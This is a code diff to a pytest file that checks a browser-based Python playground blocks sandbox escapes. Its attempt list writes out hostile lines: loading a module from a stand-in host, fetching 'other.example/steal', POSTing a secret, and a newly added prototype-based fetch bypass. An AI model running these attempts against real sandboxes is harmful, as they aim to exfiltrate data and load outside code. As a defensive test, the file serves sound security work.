@@ -1,6 +1,8 @@
 """What programs in the page cannot do: make code of text, load code or send data elsewhere, reach
 what is stored, or speak for the worker."""
 
+import re
+
 import pytest
 from playwright.sync_api import expect
 
@@ -13,6 +15,7 @@ ATTEMPTS = {
         "from pyodide.code import run_js; await run_js(\"import('http://other.example/x.mjs')\")"
     ),
     "fetch elsewhere": "await js.fetch('https://other.example/steal')",
+    "the browser's fetch": "await js.WorkerGlobalScope.prototype.fetch.call(js.self, '/')",
     "send": "await js.fetch('wheels/', method='POST', body='secret')",
     "request": "js.XMLHttpRequest.new()",
     "socket": "js.WebSocket.new('ws://localhost:1/')",
@@ -48,7 +51,7 @@ except BaseException as error:
 def test_what_programs_cannot_do(used_playground, isolated):
     playground = used_playground(isolated=isolated)
     programs = [
-        PROGRAM.format(name=name.replace(" ", "_"), attempt=attempt)
+        PROGRAM.format(name=re.sub(r"\W", "_", name), attempt=attempt)
         for name, attempt in ATTEMPTS.items()
     ]
     playground.run_to_end("\n".join([*programs, "print('the ' + 'end')"]))
